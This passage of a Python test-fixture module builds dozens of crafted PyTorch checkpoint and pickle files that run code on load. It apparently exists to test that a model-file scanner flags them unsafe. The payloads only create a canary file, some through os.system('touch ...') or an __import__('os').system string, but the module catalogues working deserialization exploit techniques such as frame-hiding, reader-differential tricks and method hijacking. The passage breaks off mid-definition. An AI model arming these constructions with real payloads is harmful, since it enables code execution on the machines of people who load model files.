"""Crafted attacks: files that make a loader run something although every name in them looks known.

``ATTACKS`` holds one entry per file. Each says which kind of fault it stands for and builds the file from the path of
a canary: where the payload runs, it creates that file and does nothing else. ``tests/oracle/test_attacks.py`` loads
all of them for real; whatever runs there must be called ``unsafe``.
"""

from __future__ import annotations

import shlex
import struct
import zipfile
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, replace
from functools import partial
from pathlib import Path

from building import (
    APPEND,
    BINPERSID,
    BUILD,
    DUP,
    EMPTY_DICT,
    EMPTY_LIST,
    EMPTY_TUPLE,
    FALSE,
    LEGACY_MAGIC,
    LEGACY_PROTOCOL,
    MARK,
    NEWOBJ,
    NEWOBJ_EX,
    NONE,
    ORDERED_DICT,
    POP,
    REDUCE,
    SETITEM,
    TRUE,
    Member,
    Raw,
    Tensor,
    archive,
    blob,
    call,
    detector,
    from_bytes,
    get,
    integer,
    items,
    latin1,
    legacy,
    legacy_tensor,
    listed,
    mapping,
    name,
    pickled,
    put,
    saved,
    shape_of,
    state_dict,
    tensor,
    text,
    torch_zip,
    ultralytics_checkpoint,
)

Builder = Callable[[str], bytes]
FIXTURES = Path(__file__).parents[1] / "fixtures"
ADDITEMS, APPENDS, SETITEMS, OBJ, FROZENSET, EMPTY_SET = b"\x90", b"e", b"u", b"o", b"\x91", b"\x8f"


@dataclass(frozen=True)
class Attack:
    """One file: the ``kind`` of fault it stands for, its bytes by canary, and the loader that is asked."""

    kind: str
    build: Builder
    loader: str = "torch"
    alone: bool = False  # whether it changes the program for all files after it


# --- what is made to run --------------------------------------------------------------------------


def evil(canary: str) -> bytes:
    """A checkpoint in bytes whose loading creates the canary."""
    return legacy(call(name("io", "open"), text(canary), text("w")), keys=EMPTY_LIST, storages=b"")


LOAD = name("torch.storage", "_load_from_bytes")
HARMLESS = blob(legacy(EMPTY_DICT, keys=EMPTY_LIST, storages=b""))
PARTIAL = name("functools", "partial")
PARAMETER = name("torch.nn.parameter", "Parameter")
FROM_TYPE = name("torch._tensor", "_rebuild_from_type_v2")
REBUILD = name("torch._utils", "_rebuild_tensor_v2")


def refilled(function: bytes, first: bytes, *arguments: bytes, keywords: bytes = EMPTY_DICT) -> bytes:
    """A partial that is made with harmless arguments (``first`` emits them) and then given others by BUILD."""
    made = PARTIAL + items(function, first) + REDUCE
    return made + items(function, items(*arguments), keywords, NONE) + BUILD


def without_arguments(canary: str) -> bytes:
    """A callable that runs the payload when it is called with nothing."""
    return refilled(LOAD, HARMLESS, blob(evil(canary)))


def with_anything(canary: str) -> bytes:
    """A callable that runs the payload when it is called with one argument, whatever it is."""
    harmless = REBUILD + PARAMETER + EMPTY_TUPLE
    return refilled(FROM_TYPE, harmless, LOAD, PARAMETER, items(blob(evil(canary))))


TOUCH = call(name("builtins", "getattr"), name("pathlib", "Path"), text("touch"))


def path_object(canary: str) -> bytes:
    return call(name("pathlib", "PosixPath"), text(canary))


def alias(module: str, qualified: str) -> bytes:
    """``Popen[int]``: a form of ``typing`` that calls the class when it is called."""
    return call(name("types", "GenericAlias"), name(module, qualified), name("builtins", "int"))


OPENING = alias("logging", "FileHandler")  # called with a path, it creates the file

# --- A1: methods looked up on the instance --------------------------------------------------------

META = call(
    name("torch._utils", "_rebuild_meta_tensor_no_storage"), name("torch", "float32"), shape_of(2), shape_of(1), FALSE
)
CARRIERS: Mapping[str, bytes] = {
    "namespace": name("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ,
    "namespace_called": name("argparse", "Namespace") + EMPTY_TUPLE + REDUCE,
    "namespace_ex": name("argparse", "Namespace") + EMPTY_TUPLE + EMPTY_DICT + NEWOBJ_EX,
    "namespace_obj": MARK + name("argparse", "Namespace") + OBJ,
    "namespace_inst": MARK + b"iargparse\nNamespace\n",
    "namespace_reconstructed": call(
        name("copyreg", "_reconstructor"), name("argparse", "Namespace"), name("builtins", "object"), NONE
    ),
    "namespace_newobj_function": call(name("copyreg", "__newobj__"), name("argparse", "Namespace")),
    "namespace_newobj_ex_function": call(
        name("copyreg", "__newobj_ex__"), name("argparse", "Namespace"), EMPTY_TUPLE, EMPTY_DICT
    ),
    "simple_namespace": name("types", "SimpleNamespace") + EMPTY_TUPLE + REDUCE,
    "ordered_dict": call(ORDERED_DICT),
    "counter": name("collections", "Counter") + EMPTY_TUPLE + NEWOBJ,
    "layer": name("torch.nn.modules.linear", "Linear") + EMPTY_TUPLE + NEWOBJ,
    "trainer_layer": name("ultralytics.nn.modules.conv", "Conv") + EMPTY_TUPLE + NEWOBJ,
    "trainer_namespace": name("ultralytics.utils", "IterableSimpleNamespace") + EMPTY_TUPLE + NEWOBJ,
    "loss": name("ultralytics.utils.loss", "v8DetectionLoss") + EMPTY_TUPLE + NEWOBJ,
    "symbolic": name("torch", "SymInt") + EMPTY_TUPLE + NEWOBJ,
    "device_mesh": name("torch.distributed.device_mesh", "DeviceMesh") + EMPTY_TUPLE + NEWOBJ,
    "spec": name("torch.distributed.tensor._dtensor_spec", "DTensorSpec") + EMPTY_TUPLE + NEWOBJ,
    "arguments": name("transformers.training_args", "TrainingArguments") + EMPTY_TUPLE + NEWOBJ,
    "metric": name("torchmetrics.classification.accuracy", "MulticlassAccuracy") + EMPTY_TUPLE + NEWOBJ,
    "callback": name("lightning.pytorch.callbacks.early_stopping", "EarlyStopping") + EMPTY_TUPLE + NEWOBJ,
    "typed_storage": name("torch.storage", "TypedStorage") + EMPTY_TUPLE + NEWOBJ,
    "parameter": call(name("torch._utils", "_rebuild_parameter"), META, TRUE, call(ORDERED_DICT)),
}
# Method name, what stands under it, and the opcodes that make the unpickler call it.
TRIGGERS: Mapping[str, tuple[str, Builder, Builder]] = {
    "append": ("append", lambda _: LOAD, lambda canary: blob(evil(canary)) + APPEND),
    "appends": ("append", lambda _: LOAD, lambda canary: MARK + blob(evil(canary)) + APPENDS),
    "extend": ("extend", with_anything, lambda _: NONE + APPEND),
    "extends": ("extend", with_anything, lambda _: MARK + integer(1) + integer(2) + APPENDS),
    "add": ("add", lambda _: LOAD, lambda canary: MARK + blob(evil(canary)) + ADDITEMS),
    "setstate": ("__setstate__", lambda _: LOAD, lambda canary: blob(evil(canary)) + BUILD),
    "setstate_partial": ("__setstate__", with_anything, lambda _: EMPTY_DICT + BUILD),
    "append_method": ("append", lambda _: TOUCH, lambda canary: path_object(canary) + APPEND),
    "append_alias": ("append", lambda _: OPENING, lambda canary: text(canary) + APPEND),
    "add_alias": ("add", lambda _: OPENING, lambda canary: MARK + text(canary) + ADDITEMS),
    "setstate_method": ("__setstate__", lambda _: TOUCH, lambda canary: path_object(canary) + BUILD),
    "setstate_alias": ("__setstate__", lambda _: OPENING, lambda canary: text(canary) + BUILD),
}
OWN_METHOD = ("layer", "trainer_layer", "metric", "parameter")  # whose type has ``__setstate__``, which is found first


def instance_methods() -> Iterator[tuple[str, Attack]]:
    for carrier, made in CARRIERS.items():
        for trigger, (method, weapon, fire) in TRIGGERS.items():
            if method != "__setstate__" or carrier not in OWN_METHOD:
                yield f"{trigger}_of_{carrier}", Attack("A1", zipped(partial(fired, made, method, weapon, fire)))


def fired(made: bytes, method: str, weapon: Builder, fire: Builder, canary: str) -> bytes:
    """An object that gets a callable under a method's name, and the opcodes that make the unpickler call it."""
    state = EMPTY_DICT + text(method) + weapon(canary) + SETITEM
    if made is CARRIERS["parameter"]:
        with_state = name("torch._utils", "_rebuild_parameter_with_state")
        return call(with_state, META, TRUE, call(ORDERED_DICT), state) + fire(canary)
    return made + state + BUILD + fire(canary)


def injected(payload: bytes, base: str = "plain-loop.pt") -> bytes:
    """A real checkpoint whose pickle begins with a payload that leaves one object, which is dropped."""
    with zipfile.ZipFile(FIXTURES / base) as whole:
        members = [(entry.filename, whole.read(entry)) for entry in whole.infolist()]
    changed = (
        (inside, data[:2] + payload + POP + data[2:] if inside.endswith("/data.pkl") else data)
        for inside, data in members
    )
    return archive(*(Member(inside, data) for inside, data in changed), alignment=64)


def armed(method: str, weapon: bytes, carrier: str = "namespace") -> bytes:
    """An object with a callable under a method's name."""
    return CARRIERS[carrier] + EMPTY_DICT + text(method) + weapon + SETITEM + BUILD


def zipped(payload: Builder) -> Builder:
    """A small state dict whose pickle begins with the payload."""
    return lambda canary: torch_zip(pickled(payload(canary) + POP + state_dict(), 2))


def key_spelled(key: bytes) -> Builder:
    """The method's name is no string constant, or comes into the state another way."""
    return zipped(
        lambda canary: CARRIERS["namespace"] + EMPTY_DICT + key + LOAD + SETITEM + BUILD + blob(evil(canary)) + APPEND
    )


def slot_state(canary: str) -> bytes:
    return CARRIERS["namespace"] + items(NONE, mapping(append=LOAD)) + BUILD + blob(evil(canary)) + APPEND


def both_states(canary: str) -> bytes:
    return CARRIERS["namespace"] + items(EMPTY_DICT, mapping(append=LOAD)) + BUILD + blob(evil(canary)) + APPEND


def state_in_ordered_dict(canary: str) -> bytes:
    state = call(ORDERED_DICT) + text("append") + LOAD + SETITEM
    return CARRIERS["namespace"] + state + BUILD + blob(evil(canary)) + APPEND


def state_from_pairs(canary: str) -> bytes:
    state = call(name("builtins", "dict"), listed(items(text("append"), LOAD)))
    return CARRIERS["namespace"] + state + BUILD + blob(evil(canary)) + APPEND


def shared_dict(canary: str) -> bytes:
    """The instance's ``__dict__`` is set to a dict that is filled afterwards."""
    made = CARRIERS["namespace"] + items(NONE, mapping(__dict__=EMPTY_DICT + put(90))) + BUILD + put(91) + POP
    return made + get(90) + text("append") + LOAD + SETITEM + POP + get(91) + blob(evil(canary)) + APPEND


def second_build(canary: str) -> bytes:
    return (
        CARRIERS["namespace"]
        + mapping(a=integer(1))
        + BUILD
        + mapping(append=LOAD)
        + BUILD
        + blob(evil(canary))
        + APPEND
    )


def through_memo(canary: str) -> bytes:
    return (
        CARRIERS["namespace"]
        + put(90)
        + POP
        + get(90)
        + mapping(append=LOAD)
        + BUILD
        + POP
        + get(90)
        + blob(evil(canary))
        + APPEND
    )


def through_dup(canary: str) -> bytes:
    return CARRIERS["namespace"] + DUP + mapping(append=LOAD) + BUILD + POP + blob(evil(canary)) + APPEND


def in_container(canary: str) -> bytes:
    return listed(armed("append", LOAD) + blob(evil(canary)) + APPEND)


def by_attribute(canary: str) -> bytes:
    """A method fetched from a class stands under the name."""
    return armed("append", TOUCH) + path_object(canary) + APPEND


def namespace_arguments(canary: str) -> bytes:
    """The callable comes in as a keyword of the constructor."""
    made = name("argparse", "Namespace") + EMPTY_TUPLE + mapping(append=LOAD) + NEWOBJ_EX
    return made + mapping(append=LOAD) + BUILD + blob(evil(canary)) + APPEND


def partial_with_attribute(canary: str) -> bytes:
    """partial keeps attributes too: the fourth part of its state."""
    silu = name("torch.nn.modules.activation", "SiLU")
    made = call(PARTIAL, silu) + items(silu, EMPTY_TUPLE, EMPTY_DICT, mapping(append=LOAD)) + BUILD
    return made + blob(evil(canary)) + APPEND


def setstate_calls_setstate(canary: str) -> bytes:
    """``__setstate__`` is ``partial`` itself, which makes nothing run, and then the loader of bytes."""
    made = CARRIERS["namespace"] + mapping(__setstate__=LOAD) + BUILD
    return made + blob(evil(canary)) + BUILD


def from_type_state(canary: str) -> bytes:
    rebuild = name("torch._utils", "_rebuild_meta_tensor_no_storage")
    arguments = items(name("torch", "float32"), shape_of(2), shape_of(1), FALSE)
    return call(FROM_TYPE, rebuild, PARAMETER, arguments, mapping(append=LOAD)) + blob(evil(canary)) + APPEND


def through(module: str, qualified: str, state: Builder, fire: Builder | None = None) -> Builder:
    """A class whose ``__getattr__`` finds the method elsewhere than among the instance's attributes."""
    fire = fire or (lambda canary: blob(evil(canary)) + APPEND)
    return zipped(lambda canary: name(module, qualified) + EMPTY_TUPLE + NEWOBJ + state(canary) + BUILD + fire(canary))


def attribute_dict(canary: str) -> bytes:
    made = name("lightning.fabric.utilities.data", "AttributeDict") + EMPTY_TUPLE + NEWOBJ
    return made + text("append") + LOAD + SETITEM + blob(evil(canary)) + APPEND


def method_in(place: str, _canary: str) -> bytes:
    return mapping(**{place: mapping(append=LOAD)})


LAYER = ("torch.nn.modules.linear", "Linear")
ELSEWHERE: Mapping[str, Attack] = {
    **{
        f"method_in_{place}": Attack("A1", through(*LAYER, partial(method_in, place)))
        for place in ("_parameters", "_buffers", "_modules")
    },
    "method_in_layer_extend": Attack(
        "A1",
        through(
            *LAYER, lambda canary: mapping(_modules=mapping(extend=with_anything(canary))), lambda _: NONE + APPEND
        ),
    ),
    "method_in_attribute_dict": Attack("A1", zipped(attribute_dict)),
    "method_in_batch": Attack(
        "A1",
        through("transformers.feature_extraction_utils", "BatchFeature", lambda _: mapping(data=mapping(append=LOAD))),
    ),
    "method_of_proxied_loader": Attack(
        "A1",
        through(
            "accelerate.data_loader", "DataLoaderAdapter", lambda _: mapping(base_dataloader=armed("append", LOAD))
        ),
    ),
    "method_of_list": Attack(
        "A1",
        through(
            "torch.nn.modules.container",
            "ModuleList",
            lambda canary: mapping(_modules=EMPTY_DICT, add_module=with_two(canary)),
            lambda _: NONE + APPEND,
        ),
    ),
    "method_of_module_dict": Attack(
        "A1",
        through(
            "torch.nn.modules.container",
            "ModuleDict",
            lambda canary: mapping(_modules=EMPTY_DICT, add_module=with_two(canary)),
            lambda _: text("x") + NONE + SETITEM,
        ),
    ),
    "method_of_parameter_list": Attack(
        "A1",
        through(
            "torch.nn.modules.container",
            "ParameterList",
            lambda canary: mapping(_size=armed("x", with_two(canary)), extend=with_anything(canary)),
            lambda _: NONE + APPEND,
        ),
    ),
}

STATES: Mapping[str, Attack] = {
    "key_of_torch_version": Attack(
        "A1", key_spelled(call(name("torch.torch_version", "TorchVersion"), text("append")))
    ),
    "key_of_str_call": Attack("A1", key_spelled(call(name("builtins", "str"), text("append")))),
    "key_of_python2_text": Attack("A1", key_spelled(b"U\x06append")),
    "key_from_memo": Attack("A1", key_spelled(text("append") + put(88) + POP + get(88))),
    "slot_state": Attack("A1", zipped(slot_state)),
    "both_states": Attack("A1", zipped(both_states)),
    "state_in_ordered_dict": Attack("A1", zipped(state_in_ordered_dict)),
    "state_from_pairs": Attack("A1", zipped(state_from_pairs)),
    "shared_dict": Attack("A1", zipped(shared_dict)),
    "second_build": Attack("A1", zipped(second_build)),
    "through_memo": Attack("A1", zipped(through_memo)),
    "through_dup": Attack("A1", zipped(through_dup)),
    "in_container": Attack("A1", zipped(in_container)),
    "by_attribute": Attack("A1", zipped(by_attribute)),
    "namespace_keywords": Attack("A1", zipped(namespace_arguments)),
    "partial_with_attribute": Attack("A1", zipped(partial_with_attribute)),
    "setstate_then_state": Attack("A1", zipped(setstate_calls_setstate)),
    "from_type_state": Attack("A1", zipped(from_type_state)),
}

# --- A1: containers and formats around the same attack --------------------------------------------


def forty(canary: str) -> bytes:
    """An instance whose ``append`` is the loader of bytes."""
    return armed("append", LOAD) + blob(evil(canary)) + APPEND


def latin(canary: str) -> bytes:
    """The same in protocol 2 spelling, the bytes as text."""
    return armed("__setstate__", LOAD) + latin1(evil(canary)) + BUILD


FORMATS: Mapping[str, Attack] = {
    "format_injected": Attack("A1", lambda canary: injected(forty(canary))),
    "format_zip": Attack("A1", lambda canary: torch_zip(pickled(state_dict(extra=forty(canary)), 2))),
    "format_zip_latin1": Attack("A1", lambda canary: torch_zip(pickled(state_dict(extra=latin(canary)), 2))),
    "format_zip_deflated": Attack(
        "A1",
        lambda canary: archive(
            Member("archive/data.pkl", pickled(forty(canary)), deflated=True), Member("archive/version", b"3\n")
        ),
    ),
    "format_legacy": Attack("A1", lambda canary: legacy(mapping(weight=legacy_tensor(), extra=forty(canary)))),
    "format_legacy_magic": Attack("A1", lambda canary: legacy(magic=forty(canary) + POP + integer(LEGACY_MAGIC))),
    "format_legacy_keys": Attack("A1", lambda canary: legacy(keys=forty(canary) + POP + listed(text("0")))),
    "format_legacy_info": Attack("A1", lambda canary: legacy(system=forty(canary))),
    "format_pickle": Attack("A1", lambda canary: pickled(forty(canary))),
    "format_nested": Attack(
        "A1", zipped(lambda canary: from_bytes(blob(legacy(forty(canary), keys=EMPTY_LIST, storages=b""))))
    ),
    "format_key": Attack("A1", lambda canary: torch_zip(pickled(EMPTY_DICT + forty(canary) + NONE + SETITEM))),
    "format_persistent": Attack(
        "A1",
        lambda canary: legacy(
            items(text("module"), name("argparse", "Namespace"), NONE, NONE)
            + BINPERSID
            + EMPTY_TUPLE
            + NEWOBJ
            + mapping(append=LOAD)
            + BUILD
            + blob(evil(canary))
            + APPEND
        ),
    ),
}

# --- A1: known functions that ask their arguments for methods --------------------------------------


def asked(method: str, function: Callable[[bytes], bytes], carrier: str = "namespace") -> Attack:
    """A known function given an object whose ``method`` is the payload."""
    return Attack("A1", zipped(lambda canary: function(armed(method, without_arguments(canary), carrier))))


def known(module: str, qualified: str, after: tuple[bytes, ...] = ()) -> Callable[[bytes], bytes]:
    return lambda argument: call(name(module, qualified), argument, *after)


SEQUENTIAL = name("torch.nn.modules.container", "Sequential") + EMPTY_TUPLE + NEWOBJ


def sequence_over(weapon: bytes) -> bytes:
    """A layer that asks ``self._modules.values()`` when something iterates over it."""
    return SEQUENTIAL + EMPTY_DICT + text("_modules") + armed("values", weapon) + SETITEM + BUILD


def iterated(function: Callable[[bytes], bytes]) -> Attack:
    return Attack("A1", zipped(lambda canary: function(sequence_over(without_arguments(canary)))))


def symbolic(method: str, function: Callable[[bytes], bytes]) -> Attack:
    """A symbolic integer asks its node for everything."""
    return Attack(
        "A1",
        zipped(
            lambda canary: function(
                name("torch", "SymInt")
                + EMPTY_TUPLE
                + NEWOBJ
                + EMPTY_DICT
                + text("node")
                + armed(method, without_arguments(canary))
                + SETITEM
                + BUILD
            )
        ),
    )


def loss_over(qualified: str, canary: str) -> bytes:
    return call(name("ultralytics.utils.loss", qualified), armed("parameters", without_arguments(canary)))


DUCKS: Mapping[str, Attack] = {
    **{
        f"keys_for_{qualified.lower()}": asked("keys", known(module, qualified))
        for module, qualified in (("builtins", "dict"), ("__builtin__", "dict"), ("collections", "OrderedDict"))
    },
    "keys_for_defaultdict": asked("keys", lambda held: call(name("collections", "defaultdict"), NONE, held)),
    "keys_of_layer": asked("keys", known("builtins", "dict"), carrier="layer"),
    "keys_of_ordered_dict": asked("keys", known("builtins", "dict"), carrier="ordered_dict"),
    "keys_of_trainer_namespace": asked("keys", known("builtins", "dict"), carrier="trainer_namespace"),
    "detach_for_parameter": asked("detach", known("torch._utils", "_rebuild_parameter", after=(TRUE, NONE))),
    "detach_for_parameter_with_state": asked(
        "detach", known("torch._utils", "_rebuild_parameter_with_state", after=(TRUE, NONE, NONE))
    ),
    "detach_for_parameter_in_rebuilder": asked(
        "detach",
        lambda held: call(
            FROM_TYPE, name("torch._utils", "_rebuild_parameter"), PARAMETER, items(held, TRUE, NONE), NONE
        ),
    ),
    **{
        f"parameters_for_{qualified}": Attack("A1", zipped(partial(loss_over, qualified)))
        for qualified in ("v8DetectionLoss", "v8SegmentationLoss", "v8PoseLoss", "v8OBBLoss")
    },
    **{
        f"values_for_{qualified}": iterated(known(module, qualified))
        for module, qualified in (
            ("builtins", "frozenset"),
            ("builtins", "dict"),
            ("collections", "deque"),
            ("collections", "Counter"),
            ("collections", "OrderedDict"),
            ("torch", "Size"),
        )
    },
    **{
        f"values_for_{qualified}": iterated(known("builtins", qualified))
        for qualified in ("set", "list", "tuple", "bytearray", "bytes")
    },
    "values_for_newobj_frozenset": iterated(lambda held: name("builtins", "frozenset") + items(held) + NEWOBJ),
    "values_for_newobj_tuple": iterated(lambda held: name("builtins", "tuple") + items(held) + NEWOBJ),
    "symbolic_key": symbolic("is_nested_int", lambda held: EMPTY_DICT + held + NONE + SETITEM),
    "symbolic_set": symbolic("is_nested_int", lambda held: EMPTY_SET + MARK + held + ADDITEMS),
    "symbolic_frozenset": symbolic("is_nested_int", lambda held: MARK + held + FROZENSET),
    "symbolic_bool": symbolic("is_constant", known("builtins", "bool")),
    "symbolic_int": symbolic("int_", known("builtins", "int")),
}

# --- A2: constructors and __setstate__ --------------------------------------------------------------

RECONSTRUCTOR = name("copyreg", "_reconstructor")


def reconstructed(cls: tuple[str, str], base: tuple[str, str], state: Builder) -> Attack:
    """``base.__new__(cls, state)`` and ``base.__init__(made, state)``."""
    return Attack("A2", zipped(lambda canary: call(RECONSTRUCTOR, name(*cls), name(*base), state(canary))))


# --- A4: two readers, two readings ------------------------------------------------------------------


LONG = 1 << 18  # longer than the reader's buffer, so that it can't give back what it has taken


def swallowed(canary: str) -> bytes:
    """The frame of the first pickle reaches over the good ones: CPython's reader goes on behind it."""
    good = legacy(mapping(note=text("x" * LONG), weight=legacy_tensor()))[len(pickled(integer(LEGACY_MAGIC), 2)) :]
    first = integer(LEGACY_MAGIC) + b"."
    hidden = pickled(call(name("os", "system"), text("touch " + shlex.quote(canary))), 2)
    length = len(first) + len(good)
    return b"\x80\x04\x95" + struct.pack("<Q", length) + first + good + hidden


def swallowed_in_storage(canary: str) -> bytes:
    """The same, and the rest lies inside the bytes of the storage: to a linear reader the file is whole."""
    hidden = pickled(call(name("os", "system"), text("touch " + shlex.quote(canary))), 2)
    room = -len(hidden) % 4
    data = hidden + bytes(room)
    count = len(data) // 4
    key = (
        items(text("storage"), name("torch", "FloatStorage"), text("0"), text("cpu"), integer(count), NONE) + BINPERSID
    )
    made = call(REBUILD, key, integer(0), shape_of(count), shape_of(1), FALSE, call(ORDERED_DICT))
    body = mapping(note=text("x" * LONG), weight=made)
    whole = legacy(body, storages=struct.pack("<q", count) + data)
    rest = whole[len(pickled(integer(LEGACY_MAGIC), 2)) :]
    first = integer(LEGACY_MAGIC) + b"."
    return b"\x80\x04\x95" + struct.pack("<Q", len(first) + len(rest) - len(data)) + first + rest


def frame_of(position: int) -> Builder:
    """The frame of the protocol's or the system's pickle, or of the object, reaches over what follows."""

    def build(canary: str) -> bytes:
        hidden = pickled(call(name("os", "system"), text("touch " + shlex.quote(canary))), 2)
        parts = [
            integer(LEGACY_MAGIC),
            integer(LEGACY_PROTOCOL),
            mapping(little_endian=TRUE),
            mapping(note=text("x" * LONG), weight=legacy_tensor()),
            listed(text("0")),
        ]
        pickles = [pickled(part, 2) for part in parts]
        following = b"".join(pickles[position + 1 :]) + struct.pack("<q", 4) + bytes(16 + LONG)
        body = parts[position] + b"."
        framed = b"\x80\x04\x95" + struct.pack("<Q", len(body) + len(following)) + body
        return b"".join(pickles[:position]) + framed + following + hidden

    return build


def old_tar(members: Mapping[str, bytes], first: bytes = b"") -> bytes:
    """A tar with V7 headers, which have no magic; ``first`` begins the name of an empty first member."""
    out = bytearray()
    for inside, data in [(first, b"")] * bool(first) + [(key.encode(), value) for key, value in members.items()]:
        header = bytearray(512)
        header[: len(inside)] = inside
        header[100:108], header[108:116], header[116:124] = b"0000644\0", b"0000000\0", b"0000000\0"
        header[124:136] = b"%011o\0" % len(data)
        header[136:148] = b"00000000000\0"
        header[148:156] = b" " * 8
        header[156:157] = b"0"
        header[148:156] = b"%06o\0 " % sum(header)
        out += header + data + bytes(-len(data) % 512)
    return bytes(out + bytes(1024))


def tar_pickle(canary: str) -> bytes:
    return pickled(call(name("os", "system"), text("touch " + shlex.quote(canary))), 2)


def stream_and_tar(canary: str) -> bytes:
    """Torch's stream of pickles to a linear reader; a tar, whose ``storages`` is evil, to torch, which asks first."""
    leading = b"".join(pickled(part, 2) for part in (integer(LEGACY_MAGIC), integer(LEGACY_PROTOCOL), EMPTY_DICT))
    whole = old_tar({"storages": tar_pickle(canary)}, first=leading + b"\x80\x02B" + bytes(4))
    opening = leading + b"\x80\x02B" + struct.pack("<I", len(whole) - len(leading) - 7)
    tar = old_tar({"storages": tar_pickle(canary)}, first=opening)
    return (
        tar
        + POP
        + mapping(weight=legacy_tensor())
        + b"."
        + pickled(listed(text("0")), 2)
        + struct.pack("<q", 4)
        + bytes(16)
    )


def state_on_module(canary: str) -> bytes:
    """BUILD on what a persistent id hands back: a class, to which it gives a ``__setstate__``."""
    module = items(text("module"), name("argparse", "Namespace"), NONE, NONE) + BINPERSID
    patched = module + items(NONE, mapping(__setstate__=with_anything(canary))) + BUILD
    return legacy(mapping(weight=legacy_tensor(), extra=patched + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT + BUILD))


def state_on_module_zip(canary: str) -> bytes:
    """The same where the class comes through the memo."""
    module = items(text("module"), name("argparse", "Namespace"), NONE, NONE) + BINPERSID + put(90)
    patched = module + items(NONE, mapping(append=with_anything(canary))) + BUILD + POP
    made = name("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ
    return legacy(patched + mapping(weight=legacy_tensor(), extra=made + NONE + APPEND))


def attribute_of_module(canary: str) -> bytes:
    """A persistent id that hands back an instance instead of a class, and is then given a state."""
    module = items(text("module"), CARRIERS["namespace"], NONE, NONE) + BINPERSID
    return legacy(
        mapping(weight=legacy_tensor(), extra=module + mapping(extend=with_anything(canary)) + BUILD + NONE + APPEND)
    )


def callable_module(canary: str) -> bytes:
    """A persistent id that hands back a partial, which is then called."""
    module = items(text("module"), without_arguments(canary), NONE, NONE) + BINPERSID
    return legacy(mapping(weight=legacy_tensor(), extra=call(module)))


def system(canary: str) -> bytes:
    return call(name("os", "system"), text("touch " + shlex.quote(canary)))


def after(odd: bytes) -> Builder:
    """Something a strict reader of opcodes stops at and CPython reads, and the payload behind it."""
    return lambda canary: torch_zip(pickled(odd + POP + system(canary) + POP + state_dict(), 2))


ARRAY = call(name("numpy._core.multiarray", "_reconstruct"), name("numpy", "ndarray"), shape_of(0), blob(b"b"))
READERS: Mapping[str, Attack] = {
    "frame_swallows_pickles": Attack("A4", swallowed),
    "frame_ends_in_storage": Attack("A4", swallowed_in_storage),
    "frame_of_protocol": Attack("A4", frame_of(1)),
    "frame_of_system": Attack("A4", frame_of(2)),
    "frame_of_object": Attack("A4", frame_of(3)),
    "tar_v7": Attack("A4", lambda canary: old_tar({"storages": tar_pickle(canary)})),
    "tar_v7_tensors": Attack(
        "A4",
        lambda canary: old_tar(
            {"storages": pickled(integer(0), 2) + pickled(EMPTY_LIST, 2), "tensors": tar_pickle(canary)}
        ),
    ),
    "tar_v7_pickle": Attack(
        "A4",
        lambda canary: old_tar(
            {
                "storages": pickled(integer(0), 2) + pickled(EMPTY_LIST, 2),
                "tensors": pickled(integer(0), 2),
                "pickle": tar_pickle(canary),
            }
        ),
    ),
    "tar_and_stream": Attack("A4", stream_and_tar),
    "tar_and_zip": Attack(
        "A4",
        lambda canary: old_tar({"storages": tar_pickle(canary)}) + torch_zip(pickled(state_dict(), 2)),
    ),
    "state_on_module": Attack("A4", state_on_module, alone=True),
    "state_on_module_memo": Attack("A4", state_on_module_zip, alone=True),
    "state_on_persistent_instance": Attack("A4", attribute_of_module),
    "persistent_callable": Attack("A4", callable_module),
    "list_as_key_of_array": Attack(
        "A4",
        after(ARRAY + EMPTY_LIST + integer(0) + SETITEM),
    ),
    "list_as_key_of_tensor": Attack("A4", after(tensor() + listed(integer(0)) + integer(0) + SETITEM)),
    "hexadecimal_integer": Attack("A4", after(b"I0x10\n")),
    "octal_integer": Attack("A4", after(b"I0o7\n")),
    "hexadecimal_long": Attack("A4", after(b"L0x10L\n")),
    "integer_with_nul": Attack("A4", after(b"I1\0x\n")),
    "float_with_nul": Attack("A4", after(b"F1.0\0x\n")),
    "integer_with_underscores": Attack("A4", after(b"I1_000\n")),
    "popped_mark": Attack("A4", after(MARK + MARK + POP + integer(1) + b"1" + NONE)),
    "memo_over_mark": Attack("A4", after(NONE + put(9) + MARK + get(9) + b"1")),
    "nested_mark_tuple": Attack("A4", after(MARK + MARK + integer(1) + b"t" + b"t")),
    "empty_setitems": Attack("A4", after(NONE + MARK + SETITEMS)),
    "empty_appends": Attack("A4", after(NONE + MARK + APPENDS)),
    "empty_additems": Attack("A4", after(NONE + MARK + ADDITEMS)),
    "large_integer_keys": Attack("A4", after(EMPTY_DICT + b"\x8a\xff" + b"\x7f" * 255 + NONE + SETITEM)),
    "colliding_keys": Attack(
        "A4",
        after(
            EMPTY_DICT + MARK + b"".join(integer((index + 1) * (2**61 - 1)) + NONE for index in range(1100)) + SETITEMS
        ),
    ),
    "python2_bytes": Attack("A4", after(b"S'a\\x41'\n")),
}

# --- A5: functions under other packages' names ------------------------------------------------------


def calling(module: str, qualified: str, *arguments: Builder) -> Attack:
    """A function or class called under the name of a package that brings it along."""
    return Attack(
        "A5",
        zipped(lambda canary: call(name(module, qualified), *(argument(canary) for argument in arguments))),
    )


def words(canary: str) -> bytes:
    return listed(text("touch"), text(canary))


def shell(canary: str) -> bytes:
    return text("touch " + shlex.quote(canary))


def path(canary: str) -> bytes:
    return text(canary)


def expression(canary: str) -> bytes:
    return text(f"__import__('os').system({'touch ' + shlex.quote(canary)!r})")


def just(value: bytes) -> Callable[[str], bytes]:
    return lambda _canary: value


def layers(*rows: bytes, **entries: bytes) -> bytes:
    return mapping(
        nc=integer(2), ch=integer(3), channels=integer(3), backbone=listed(*rows), head=EMPTY_LIST, **entries
    )


def layer(kind: str, *arguments: bytes) -> bytes:
    return listed(integer(-1), integer(1), text(kind), listed(*arguments))


def evaluated(canary: str) -> bytes:
    return layers(layer("nn.Identity"), activation=expression(canary))


BASES: Mapping[str, Attack] = {
    "base_model": reconstructed(
        ("ultralytics.nn.tasks", "DetectionModel"),
        ("ultralytics.nn.tasks", "DetectionModel"),
        evaluated,
    ),
    "base_ordered_dict": reconstructed(
        ("collections", "OrderedDict"),
        ("builtins", "dict"),
        lambda canary: armed("keys", without_arguments(canary)),
    ),
    "base_set": reconstructed(
        ("builtins", "set"), ("builtins", "set"), lambda canary: sequence_over(without_arguments(canary))
    ),
    "base_deque": reconstructed(
        ("collections", "deque"), ("collections", "deque"), lambda canary: sequence_over(without_arguments(canary))
    ),
    "base_counter": reconstructed(
